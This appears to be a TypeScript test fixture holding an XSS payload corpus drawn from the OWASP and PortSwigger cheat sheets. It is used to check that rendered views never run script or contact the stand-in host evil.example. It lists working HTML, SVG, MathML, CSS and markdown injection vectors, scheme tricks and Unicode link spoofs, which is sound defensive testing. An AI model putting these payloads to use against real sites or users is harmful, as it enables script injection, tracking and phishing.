/**
 * The XSS corpus: text that would run script, load something from another host, or pose as a link or a
 * button if any view rendered it as HTML, followed a scheme it should not, or turned markdown into more
 * than text. Every payload that could run script calls the trap the tests install (`window.__pwned = …`
 * or `alert`), and every one that could load something points at `evil.example`, which the tests watch for.
 *
 * Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet (SVG, MathML, mutation
 * XSS), CommonMark's link rules (entities, whitespace, titles, references, autolinks), and the classic
 * Unicode spoofs (direction overrides, homoglyphs).
 */

/** The host no rendered text may ever make the browser contact. */
export const EVIL_HOST = 'evil.example';

export interface Payload {
  /** Short, for failure messages. */
  name: string;
  text: string;
}

const P = (name: string, text: string): Payload => ({ name, text });

export const XSS_PAYLOADS: readonly Payload[] = [
  // HTML that runs script.
  P('script tag', '<script>window.__pwned="script tag"</script>'),
  P('script src', '<script src="https://evil.example/x.js"></script>'),
  P('img onerror', '<img src=x onerror="window.__pwned=\'img onerror\'">'),
  P('img remote', '<img src="https://evil.example/pixel.png" alt="pixel">'),
  P('svg onload', '<svg onload="window.__pwned=\'svg onload\'"></svg>'),
  P('svg script', '<svg><script>window.__pwned="svg script"</script></svg>'),
  P('svg animate href', '<svg><a><animate attributeName="href" values="javascript:window.__pwned=\'svg animate\'"/><text x="20" y="20">click me</text></a></svg>'),
  P('svg use remote', '<svg><use href="https://evil.example/sprite.svg#x"></use></svg>'),
  P('mathml mglyph mxss', '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mathml\'">'),
  P('mathml href', '<math href="javascript:window.__pwned=\'mathml href\'"><mi>click</mi></math>'),
  P('iframe srcdoc', '<iframe srcdoc="<script>parent.__pwned=\'srcdoc\'</script>"></iframe>'),
  P('iframe javascript', '<iframe src="javascript:parent.__pwned=\'iframe js\'"></iframe>'),
  P('object data', '<object data="https://evil.example/x.swf"></object>'),
  P('embed data url', '<embed src="data:text/html,<script>parent.__pwned=\'embed\'</script>">'),
  P('body onload', '<body onload="window.__pwned=\'body onload\'">'),
  P('details ontoggle', '<details open ontoggle="window.__pwned=\'ontoggle\'"><summary>x</summary></details>'),
  P('input autofocus', '<input autofocus onfocus="window.__pwned=\'onfocus\'">'),
  P('anchor event handler', '<a href="https://ok.example" onmouseover="window.__pwned=\'onmouseover\'">hover me</a>'),
  P('anchor entity scheme', '<a href="&#106;&#97;vascript:window.__pwned=\'entity\'">entity link</a>'),
  P('anchor leading space', '<a href=" javascript:window.__pwned=\'space\'">space link</a>'),
  P('noscript mxss', '<noscript><p title="</noscript><img src=x onerror=window.__pwned=\'noscript\'>">'),
  P('form action', '<form action="javascript:window.__pwned=\'form\'"><button>Approve refund</button></form>'),
  P('meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=\'meta\'">'),
  P('base href', '<base href="https://evil.example/">'),
  P('polyglot', 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e'),
  P('template injection', '{{constructor.constructor("window.__pwned=\'template\'")()}} ${alert(1)} #{alert(1)}'),
  // CSS injection.
  P('style import', '<style>@import url(https://evil.example/x.css); *{background:url(https://evil.example/bg.png)}</style>'),
  P('style attribute', '<div style="background-image:url(https://evil.example/bg.png);width:expression(window.__pwned=\'expr\')">styled</div>'),
  P('link stylesheet', '<link rel="stylesheet" href="https://evil.example/s.css">'),
  // Markdown links and images with schemes that are not http(s).
  P('md javascript link', '[Click to approve](javascript:window.__pwned=\'md link\')'),
  P('md javascript upper case', '[Open invoice](JaVaScRiPt:window.__pwned=\'md upper\')'),
  P('md javascript entity', '[Entity](&#106;avascript:window.__pwned=\'md entity\')'),
  P('md javascript tab entity', '[Tab](java&#x09;script:window.__pwned=\'md tab\')'),
  P('md javascript raw tab', '[Raw tab](java\tscript:window.__pwned=\'md raw tab\')'),
  P('md javascript spaces', '[Spaces](   javascript:window.__pwned=\'md spaces\'   )'),
  P('md javascript control char', '[Control](\u0001javascript:window.__pwned=\'md ctl\')'),
  P('md javascript zero width', '[Zero width](java\u200bscript:window.__pwned=\'md zw\')'),
  P('md data link', '[Data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0nZGF0YSc8L3NjcmlwdD4=)'),
  P('md vbscript link', '[VB](vbscript:msgbox("pwned"))'),
  P('md title breakout', '[Title](https://ok.example "x\\" onmouseover=\\"window.__pwned=\'md title\'")'),
  P('md image remote', '![tracking pixel](https://evil.example/pixel.gif)'),
  P('md image javascript', '![x](javascript:window.__pwned=\'md image\')'),
  P('md image attribute breakout', '![x](https://evil.example/a.png" onerror="window.__pwned=\'md img attr\')'),
  P('md reference link', '[Pay now][1]\n\n[1]: javascript:window.__pwned=\'md reference\''),
  P('md autolink', '<javascript:window.__pwned=\'autolink\'> <https://evil.example/auto>'),
  P('md nested emphasis link', '**[*Verify your account*](javascript:window.__pwned=\'nested\')** and *[ok](https://ok.example)*[b](javascript:window.__pwned=\'nested 2\')*'),
  P('md link in link', '[outer [inner](javascript:window.__pwned=\'inner\')](https://ok.example)'),
  P('md fenced html', '```html\n<script>window.__pwned="fenced"</script>\n<img src=x onerror="window.__pwned=\'fenced img\'">\n```'),
  P('bare non-http schemes', 'javascript:window.__pwned=\'bare\' data:text/html,<script>alert(1)</script> vbscript:msgbox(1) file:///etc/passwd'),
  // Spoofing: what a link says is not where it goes.
  P('direction override', 'Your receipt: invoice\u202Egpj.exe and [\u202Eelpmaxe.knab//:sptth](https://evil.example/rtl)'),
  P('homoglyph link text', '[https://p\u0430ypal.com/login](https://evil.example/phish) [\u0440aypal.com](https://xn--aypal-uye.example/)'),
];

/** The payloads joined, cut to `max` characters at a payload boundary (notes and names have limits). */
export function joinedPayloads(max: number, separator = '\n\n'): string {
  let out = '';
  for (const p of XSS_PAYLOADS) {
    const next = out ? `${out}${separator}${p.text}` : p.text;
    if (next.length > max) break;
    out = next;
  }
  return out;
}
